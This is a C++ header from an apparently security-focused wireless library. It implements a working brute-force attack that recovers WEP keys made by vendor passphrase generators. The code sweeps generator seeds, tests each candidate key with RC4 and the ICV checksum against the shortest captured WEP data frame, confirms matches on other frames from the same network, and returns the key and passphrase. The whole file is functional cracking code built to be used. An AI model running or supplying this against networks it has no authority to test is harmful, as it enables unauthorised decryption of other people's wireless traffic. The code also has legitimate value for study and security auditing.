#pragma once

#include <algorithm>
#include <array>
#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "wavelab/capture.hpp"
#include "wavelab/error.hpp"
#include "wavelab/wepcrypt.hpp"

namespace wavelab::attacks {

struct BruteForceOptions {
  /// Effective seed bits swept, 7 per passphrase octet; 28 covers every
  /// printable passphrase.
  unsigned seed_bits = 28;
  /// Further envelopes under the same key. A candidate that opens the sample
  /// must open these too, which rules out chance ICV matches (2^-32 each).
  std::vector<WepEnvelope> confirm;
};

struct BruteForceResult {
  WepKey key;
  std::uint32_t seed = 0;
  std::string passphrase;  // shortest passphrase folding to the seed, if printable
  std::uint64_t candidates = 0;
};

/// Candidate index -> generator seed, one 7-bit group per seed octet.
inline std::uint32_t seed_from_index(std::uint32_t i) {
  return (i & 0x7F) | ((i >> 7) & 0x7F) << 8 | ((i >> 14) & 0x7F) << 16 | ((i >> 21) & 0x7F) << 24;
}

inline std::string passphrase_for_seed(std::uint32_t seed) {
  std::string s;
  for (int k = 0; k < 4; ++k) s.push_back(static_cast<char>((seed >> (8 * k)) & 0xFF));
  while (!s.empty() && s.back() == '\0') s.pop_back();
  for (char c : s)
    if (c < 0x20 || c > 0x7E) return {};
  return s;
}

namespace detail {

/// True iff the envelope opens under iv || key. No allocation; the 8-octet
/// seed lets the key schedule index with a mask instead of a division.
inline bool opens_with(const WepEnvelope& env, const std::array<std::uint8_t, 5>& key) {
  const std::uint8_t seed[8] = {env.iv[0], env.iv[1], env.iv[2], key[0], key[1], key[2], key[3], key[4]};
  std::uint8_t s[256];
  for (int k = 0; k < 256; ++k) s[k] = static_cast<std::uint8_t>(k);
  std::uint8_t j = 0;
  for (int k = 0; k < 256; ++k) {
    j = static_cast<std::uint8_t>(j + s[k] + seed[k & 7]);
    std::swap(s[k], s[j]);
  }
  std::uint8_t x = 0, y = 0;
  auto next = [&] {
    x = static_cast<std::uint8_t>(x + 1);
    y = static_cast<std::uint8_t>(y + s[x]);
    std::swap(s[x], s[y]);
    return s[static_cast<std::uint8_t>(s[x] + s[y])];
  };
  const auto& t = ::wavelab::detail::crc_table();
  const std::size_t n = env.ciphertext.size() - 4;
  std::uint32_t c = 0xFFFFFFFFu;
  for (std::size_t i = 0; i < n; ++i) {
    std::uint8_t p = env.ciphertext[i] ^ next();
    c = t[(c ^ p) & 0xFF] ^ (c >> 8);
  }
  c ^= 0xFFFFFFFFu;
  for (std::size_t k = 0; k < 4; ++k)
    if (static_cast<std::uint8_t>(env.ciphertext[n + k] ^ next()) != static_cast<std::uint8_t>(c >> (8 * k)))
      return false;
  return true;
}

}  // namespace detail

/// Sweeps the generator's reachable seeds and returns the first key that
/// opens the sample envelope.
inline BruteForceResult brute_force_key(const WepEnvelope& sample, const BruteForceOptions& options = {}) {
  if (options.seed_bits > 28) throw Error(ErrorKind::OutOfRange, "at most 28 seed bits");
  if (sample.ciphertext.size() < 4) throw Error(ErrorKind::InvalidFrame, "sample shorter than ICV");
  const std::uint64_t space = std::uint64_t{1} << options.seed_bits;
  for (std::uint64_t i = 0; i < space; ++i) {
    std::uint32_t seed = seed_from_index(static_cast<std::uint32_t>(i));
    auto key = vendor_key_octets(seed);
    if (detail::opens_with(sample, key) &&
        std::all_of(options.confirm.begin(), options.confirm.end(),
                    [&](const WepEnvelope& e) { return e.ciphertext.size() >= 4 && detail::opens_with(e, key); })) {
      BruteForceResult r;
      r.key = WepKey(Bytes(key.begin(), key.end()), sample.key_id);
      r.seed = seed;
      r.passphrase = passphrase_for_seed(seed);
      r.candidates = i + 1;
      return r;
    }
  }
  throw Error(ErrorKind::NotFound, "no generator-derived key opens the sample (" + std::to_string(space) + " seeds)");
}

/// Shortest WEP data frame in the capture: the cheapest one to test keys on.
inline std::optional<WepEnvelope> shortest_wep_sample(const Capture& capture) {
  std::optional<WepEnvelope> best;
  for (const auto& r : capture)
    if (r.frame.ftype == FrameType::Data && r.frame.is_wep() &&
        (!best || r.frame.wep().ciphertext.size() < best->ciphertext.size()))
      best = r.frame.wep();
  return best;
}

/// Options whose sweep tests the shortest frame and confirms hits on up to
/// `confirm` other frames of the same network.
inline BruteForceOptions options_for_capture(const Capture& capture, WepEnvelope& sample, unsigned seed_bits,
                                             std::size_t confirm = 2) {
  const Frame* best = nullptr;
  for (const auto& r : capture)
    if (r.frame.ftype == FrameType::Data && r.frame.is_wep() &&
        (!best || r.frame.wep().ciphertext.size() < best->wep().ciphertext.size()))
      best = &r.frame;
  if (!best) throw Error(ErrorKind::InsufficientCapture, "capture holds no WEP data frame");
  sample = best->wep();
  BruteForceOptions o;
  o.seed_bits = seed_bits;
  for (const auto& r : capture) {
    if (o.confirm.size() >= confirm) break;
    if (&r.frame != best && r.frame.ftype == FrameType::Data && r.frame.is_wep() && r.frame.bssid == best->bssid &&
        r.frame.wep().key_id == sample.key_id)
      o.confirm.push_back(r.frame.wep());
  }
  return o;
}

}  // namespace wavelab::attacks
